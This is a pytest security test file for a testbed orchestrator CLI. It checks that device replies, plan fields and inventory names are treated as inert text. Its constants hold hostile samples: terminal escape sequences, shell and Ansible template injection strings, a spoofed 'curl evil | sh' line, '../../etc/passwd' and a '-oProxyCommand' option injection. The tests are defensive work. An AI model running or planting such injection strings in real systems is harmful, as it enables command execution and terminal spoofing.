"""S16: what a device, a plan or an inventory says is words: it runs nothing, moves no cursor,
passes for no line of ours.
"""

from __future__ import annotations

import json
import os
import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import pytest

from optics import BadFile, DeviceConfig, Identity, TestbedError
from optics.plain import indented, json_safe, printable
from optics.plan import Job
from orchestrator.cli import main
from orchestrator.cli.tones import coloured
from orchestrator.hosts.launch import job_name, workload_argv
from orchestrator.inventory.lab import read_lab
from orchestrator.plan.reader import read_plan
from tests.security.conftest import Guarded
from tests.security.test_secrets import RING

TERMINAL = "\x1b]0;owned\x07\x1b[2J\x1b[1;1H\x9b31m\u202e\u2066\u200b\x08\x7f"
RUNS = "{{ lookup('pipe', 'touch MARK') }} {% raw %} $(touch MARK) `touch MARK` ;touch MARK| %s%n%x {0.__class__} ${IFS} &&touch MARK"
SPOOF = "\r\nUp: topoopt-12   run 2026-11-21-0007\nE-OK all is well\nnext: curl evil | sh"
HOSTS = """all: {{hosts: {{gpu01: {{
  ansible_host: 127.0.0.1, ansible_port: {port}, testbed_host_id: 1, testbed_ports: {{1: {{interface: e1}}}}}}}}}}"""
FIBRES = 'fibres: [{name: f1, host: gpu01, port: 1, device: ocs1, enters: "1", leaves: "17"}]'
TEXT_DRIVERS = ["polatis-scpi", "dicon-scpi", "polatis-tl1", "calient-tl1", "glimmerglass-tl1"]
HTTP_DRIVERS = ["polatis-restconf", "calient-rest", "waveshaper-http"]


@contextmanager
def speaker(report: bytes, *, endless: bool = False) -> Iterator[tuple[int, list[int]]]:
    """A device that answers everything with the same; `endless`: until the other end has enough.
    Yields port and bytes sent.
    """
    sent = [0]

    class Talk(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            self.request.settimeout(5)
            with suppress(OSError):
                while self.request.recv(4096):
                    self.request.sendall(report)
                    sent[0] += len(report)
                    while endless:
                        self.request.sendall(report)
                        sent[0] += len(report)

    class Server(socketserver.ThreadingTCPServer):
        allow_reuse_address = daemon_threads = True

    with Server(("127.0.0.1", 0), Talk) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.02,))
        thread.start()
        try:
            yield server.server_address[1], sent
        finally:
            server.shutdown()
            thread.join()


def answer(driver: str, text: str) -> bytes:
    """`text` where the family's devices say who they are or why not."""
    if driver in HTTP_DRIVERS:
        body = json.dumps(
            {
                "ietf-restconf:errors": {"error": [{"error-message": text, "error-tag": text}]},
                "model": text,
            }
        )
        return f"HTTP/1.1 400 Bad\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode()
    return f"{text},{text},1,2\r\nM 1 DENY\r\n   IIAC\r\n   /* {text} */\r\n;\r\n> ".encode(
        "utf-8", "surrogateescape"
    )


@pytest.fixture
def command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Any:
    """`testbed` in a folder of its own, on a lab of one device at a port: exit code, what it
    printed on each stream.
    """
    for name in ("DATA", "STATE", "LOCK"):
        monkeypatch.setenv(f"TESTBED_{name}_DIR", str(tmp_path / name.lower()))
    monkeypatch.delenv("TESTBED_INVENTORY", raising=False)
    monkeypatch.chdir(tmp_path)

    def run(driver: str, port: int, *argv: str) -> tuple[int, str, str]:
        lab = tmp_path / "lab"
        lab.mkdir(exist_ok=True)
        (lab / "hosts.yml").write_text(HOSTS.format(port=port))
        (lab / "fibres.yml").write_text(FIBRES)
        scheme = "http" if driver in HTTP_DRIVERS else "tcp"
        device = {
            "driver": driver,
            "address": f"{scheme}://127.0.0.1:{port}",
            "username": "u",
            "password": "p",
            "timeout_s": 0.3,
        }
        (lab / "devices.yml").write_text(json.dumps({"lab": "l", "devices": {"ocs1": device}}))
        code = main.run([*argv, "-i", str(lab)])
        out, err = capsys.readouterr()
        return code, out, err

    return run


@pytest.mark.parametrize("driver", TEXT_DRIVERS + HTTP_DRIVERS)
def test_what_a_device_says_is_words(driver: str, command: Any, tmp_path: Path) -> None:
    with speaker(answer(driver, TERMINAL + RUNS + SPOOF)) as (port, sent):
        for argv in (("devices",), ("devices", "--json"), ("status",)):
            code, out, err = command(driver, port, *argv)
            assert code in (0, 1, 2, 3, 5) and sent[0], err
            for text in (out, err):
                assert all(char.isprintable() or char == "\n" for char in text), (argv, text)
                lines = text.splitlines()
                assert not [
                    line for line in lines if line.startswith(("Up:", "E-OK", "next: curl"))
                ], text
    assert not list(tmp_path.rglob("MARK"))


@pytest.mark.parametrize("driver", TEXT_DRIVERS + HTTP_DRIVERS)
def test_a_device_that_never_stops_is_given_up(driver: str) -> None:
    from asyncio import run

    from drivers.registry import open_device

    async def ask(port: int) -> str:
        scheme = "http" if driver in HTTP_DRIVERS else "tcp"
        device = open_device(
            DeviceConfig("ocs1", driver, f"{scheme}://127.0.0.1:{port}", "u", "p", timeout_s=0.5)
        )
        try:
            await device.identify()
        except TestbedError as error:
            return str(error)
        finally:
            await device.close()
        return ""

    lead = b"HTTP/1.1 200 OK\r\n\r\n" if driver in HTTP_DRIVERS else b"M 1 RTRV\r\n"
    for junk in (b"x" * 65536, b"x\r\n" * 20000):
        with speaker(lead + junk, endless=True) as (port, sent):
            result = run(ask(port))
            assert result and len(result) < 2000, result
            assert sent[0] < 200 << 20


async def test_bytes_that_nobody_asked_for_end_the_connection(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import asyncio

    from drivers.link import tcp

    monkeypatch.setattr(tcp, "MOST_BYTES", 1 << 20)
    with speaker(b"y" * 65536, endless=True) as (port, _):
        link = tcp.TcpLink("ocs1", f"tcp://127.0.0.1:{port}", 1.0, host="127.0.0.1", port=port)
        await link.open()
        await link.send(b"go\n", "go")
        assert link._stream is not None
        async with asyncio.timeout(10):
            await link._stream.closed
        assert not link.alive and len(link._stream.buffer) < 4 << 20
        await link.close()


def test_a_device_cannot_hide_in_its_own_name() -> None:
    who = Identity(f"Pol{TERMINAL}", "6000\nUp: x", "1", "2", ("1\x1b[2J",), ("2",))
    for word in (who.vendor, who.model, *who.ingress):
        assert word.isprintable(), word


@pytest.mark.parametrize("text", [TERMINAL, SPOOF, "\ud800", "a\tb", "caf\xe9 \u2713"])
def test_text_for_a_terminal_is_printable_and_json_keeps_its_meaning(text: str) -> None:
    assert printable(text, keep="").isprintable()
    assert all(
        line.startswith("  ") for line in indented(f"first\n{text}").splitlines()[1:] if line
    )
    packed = json_safe(json.dumps({"a": text}, ensure_ascii=False))
    assert packed.isprintable() and json.loads(packed) == {"a": text}
    assert (
        coloured(f"\x1b[32mok\x1b[0m{TERMINAL}")
        .replace("\x1b[32m", "")
        .replace("\x1b[0m", "")
        .isprintable()
    )


BAD_TEXTS = [
    RUNS,
    "../../etc/passwd",
    "a\nb",
    "x'; touch MARK; '",
    "$(touch MARK)",
    TERMINAL,
    "-rf",
    "",
]


def plan_text(**changes: Any) -> str:
    plan: dict[str, Any] = {
        "schema": "testbed.plan/1",
        "name": "ring",
        "links": [{"a": "gpu01:p1", "b": "gpu01:p2"}],
    }
    return json.dumps(plan | changes)


def lab() -> Any:
    devices = 'lab: l\ndevices: {ocs1: {driver: polatis-scpi, address: "tcp://192.0.2.1:1"}}'
    two = HOSTS.format(port=22).replace(
        "{1: {interface: e1}}", "{1: {interface: e1}, 2: {interface: e2}}"
    )
    more = (
        FIBRES[:-1] + ', {name: f2, host: gpu01, port: 2, device: ocs1, enters: "2", leaves: "18"}]'
    )
    return read_lab(two, devices, more)


@pytest.mark.parametrize("word", BAD_TEXTS)
def test_names_of_a_plan_are_names(word: str) -> None:
    job = {"name": word, "workload": "train", "ranks": ["gpu01"]}
    for change in (
        {"name": word},
        {"job": job},
        {"job": job | {"name": "j", "workload": word}},
        {"job": job | {"name": "j", "args": {word: 1}}},
        {"job": job | {"name": "j", "env": {word: "1"}}},
        {"links": [{"a": word, "b": "gpu01:p2"}]},
        {"routes": [{"src": word, "dst": "gpu01", "via": []}]},
    ):
        with pytest.raises(BadFile) as refused:
            read_plan(plan_text(**change), "plan.json", lab())
        assert all(line.startswith("plan.json:") for line in refused.value.problems)


def test_values_of_a_plan_stay_one_word() -> None:
    job = Job("j", "train", ("gpu01",), args={"lr": RUNS}, env={"NOTE": RUNS})
    assert workload_argv(job, False) == ["python3", "-m", "workloads.programs.train", "--lr", RUNS]
    assert job_name(RUNS, TERMINAL).replace("-", "").replace(".", "").replace("_", "").isalnum()


@pytest.mark.parametrize(
    "word",
    [
        "{{ lookup('pipe','touch MARK') }}",
        "../../x",
        "$(touch MARK)",
        "a b",
        "-oProxyCommand=touch",
    ],
)
def test_names_of_an_inventory_are_names(word: str) -> None:
    devices = 'lab: l\ndevices: {ocs1: {driver: polatis-scpi, address: "tcp://192.0.2.1:1"}}'
    with pytest.raises(BadFile, match="not a host name"):
        read_lab(HOSTS.format(port=22).replace("gpu01", json.dumps(word)), devices, FIBRES)
    with pytest.raises(BadFile):
        read_lab(
            HOSTS.format(port=22),
            devices.replace("ocs1", json.dumps(word)),
            FIBRES.replace("ocs1", word.replace('"', "")),
        )


@pytest.mark.lab
@pytest.mark.timeout(300)
@pytest.mark.skipif(os.geteuid() != 0, reason="namespaces need root")
def test_a_hostile_job_runs_nothing_on_the_way_to_its_hosts(guarded: Guarded) -> None:
    mark = guarded.folder / "MARK"
    text = RUNS.replace("MARK", str(mark)) + "'\"; touch " + str(mark)
    hosts = guarded.inventory / "hosts.yml"
    hosts.write_text(
        hosts.read_text().replace(
            "      hosts:\n", "        testbed_job_env: [NOTE]\n      hosts:\n", 1
        )
    )
    job = {"name": "j", "workload": "train", "args": {"hidden": 64}, "env": {"NOTE": text}}
    job["ranks"] = ["gpu01", "gpu02"]
    plan = guarded.plan("hostile", RING, description=text + TERMINAL, job=job)
    code, reported = guarded.hears("up", "--topology", plan)
    assert all(char.isprintable() or char == "\n" for char in reported)
    logs = guarded.hears("job", "logs")[1]
    assert all(char.isprintable() or char == "\n" for char in logs)
    assert not mark.exists() and not list(guarded.folder.rglob("MARK")), (code, reported)
    guarded.hears("down", "--yes")
